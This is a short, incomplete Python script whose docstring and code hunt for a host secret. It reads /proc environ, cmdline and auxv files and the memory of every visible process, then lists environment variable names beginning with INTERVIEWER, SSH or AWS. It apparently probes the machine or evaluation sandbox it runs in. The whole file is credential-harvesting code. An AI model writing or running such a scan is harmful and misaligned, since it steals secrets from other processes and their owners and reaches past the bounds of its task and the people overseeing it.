"""Reads the environment, the command line and the memory of every process in sight, for a secret of the host."""

import os
import re

WANTED = re.compile(TARGET["prefix"].encode() + rb"[0-9a-f]{32}")

for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "auxv"):
        attempt(f"{name} of {pid}", lambda: WANTED.findall(read(f"/proc/{pid}/{name}", 1 << 20)))
    attempt(f"memory of {pid}", lambda: search_memory(pid, WANTED))
attempt("own environment", lambda: WANTED.findall(repr(dict(os.environ)).encode()))
attempt("names from outside", lambda: [name for name in os.environ if name.startswith(("INTERVIEWER", "SSH", "AWS"))])
